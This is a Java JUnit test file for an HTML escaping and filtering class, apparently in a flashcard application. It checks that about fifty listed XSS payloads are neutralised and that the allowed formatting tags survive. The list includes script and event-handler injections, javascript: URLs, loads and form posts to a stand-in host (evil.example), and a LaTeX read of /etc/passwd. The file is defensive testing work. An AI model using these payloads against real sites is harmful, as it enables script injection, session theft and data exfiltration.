package io.cama.output.value;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

class HtmlTest {
    private static final Pattern TAG = Pattern.compile("<[^>]*>?");
    private static final Pattern HARMLESS =
            Pattern.compile("<(/?(b|i|u|em|strong|ruby|rt|rp|span)|br|span class=\"[\\w -]*\")>");

    static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
            "<script>alert(1)",
            "<script/src=data:,alert(1)>",
            "<script\n>alert(1)</script\n>",
            "<img src=x onerror=alert(1)>",
            "<img/src=\"x\"/onerror=alert(1)>",
            "<img src=\"https://evil.example/t.gif\">",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)//",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x></svg>",
            "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
            "<b onclick=alert(1)>x</b>",
            "<b/onmouseover=alert(1)>x",
            "<span class=\"a\" style=\"background:url(//evil.example)\">x</span>",
            "<span class='x\" onmouseover=\"alert(1)'>x</span>",
            "<span class=x onclick=alert(1)>x</span>",
            "<span onclick=alert(1) class=\"a\">x</span>",
            "<span class=\"a\"onclick=alert(1)>x</span>",
            "<span class=\"javascript:alert(1)\">x</span>",
            "<ruby onpointerenter=alert(1)>雪<rt>설</rt></ruby>",
            "<br onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=//evil.example></object><embed src=//evil.example>",
            "<form action=//evil.example><input type=submit>",
            "<body onload=alert(1)>",
            "<style>@import '//evil.example/x.css';</style>",
            "<link rel=stylesheet href=//evil.example>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<base href=//evil.example/>",
            "<video><source onerror=alert(1)></video><audio src=//evil.example>",
            "<details open ontoggle=alert(1)>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<!--><script>alert(1)</script>-->",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
            "<b<i onclick=alert(1)>>x",
            "<<b>script>alert(1)</script>",
            "<b \u0000onclick=alert(1)>x",
            "<\u0000script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=\"alert(1)",
            "<xss style=\"behavior:url(x.htc)\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<b title=\"</b><script>alert(1)</script>\">",
            "[sound:http://evil.example/x.mp3] [latex]\\input{/etc/passwd}[/latex] [$]x[/$] [anki:play:q:0]");

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void letsNothingActiveThroughWhetherEscapedOrFiltered(String attack) {
        assertThat(TAG.matcher(Html.escape(attack)).results().map(match -> match.group()))
                .allMatch("<br>"::equals);
        String filtered = Html.filter(attack);
        assertThat(TAG.matcher(filtered).results().map(match -> match.group()))
                .as(filtered)
                .allMatch(tag -> HARMLESS.matcher(tag).matches());
        for (String safe : List.of(filtered, Html.escape(attack))) {
            assertThat(TAG.matcher(safe).replaceAll(""))
                    .doesNotContain("<", ">", "\"", "'", "[sound:", "[latex]", "[$]", "[anki:");
        }
    }

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void filteringTwiceIsFilteringOnce(String attack) {
        String once = Html.filter(attack);

        assertThat(Html.filter(once)).isEqualTo(once);
    }

    @Test
    void showsEscapedTextAsItWas() {
        assertThat(Html.escape("a < b && \"c\"\r\nd\te\u0007\u001f"))
                .isEqualTo("a &lt; b &amp;&amp; &quot;c&quot;<br>d e");
    }

    @Test
    void keepsTheTagsThatAreAllowed() {
        assertThat(
                        Html.filter(
                                "<B>b</B> <i>i</i><u>u</u> <em>e</em><strong>s</strong><br/>"
                                        + "<ruby>雪<rp>(</rp><rt>설</rt><rp>)</rp></ruby><span class='hot key' id=x>k</span>\n<span>n</span>"))
                .isEqualTo(
                        "<b>b</b> <i>i</i><u>u</u> <em>e</em><strong>s</strong><br>"
                                + "<ruby>雪<rp>(</rp><rt>설</rt><rp>)</rp></ruby><span class=\"hot key\">k</span><br><span>n</span>");
    }

    @Test
    void closesWhatIsOpenAndForgetsWhatIsNot() {
        assertThat(Html.filter("<b><i>x</b> y</u> <em>z")).isEqualTo("<b><i>x</i></b> y <em>z</em>");
    }

    @Test
    void keepsEntitiesAndEscapesOtherAmpersands() {
        assertThat(Html.filter("&lt;b&gt; R&D &amp; 3 < 4")).isEqualTo("&lt;b&gt; R&amp;D &amp; 3 &lt; 4");
    }

    @Test
    void givesTextBackFromWhatItMade() {
        String text = "a < b > c & \"d\" 'e' [sound:x] {{f}}";

        assertThat(Html.strip(Html.escape(text))).isEqualTo(text);
        assertThat(Html.strip("<b>x</b><br>&#123;y&#125;&nbsp;")).isEqualTo("x{y} ");
    }

    @Test
    void composesHangulAndReplacesHalvesOfCharacters() {
        assertThat(Html.clean("\u1112\u1161\u11ab\u1100\u116e\u11a8 \ud800!")).isEqualTo("한국 \uFFFD!");
    }
}
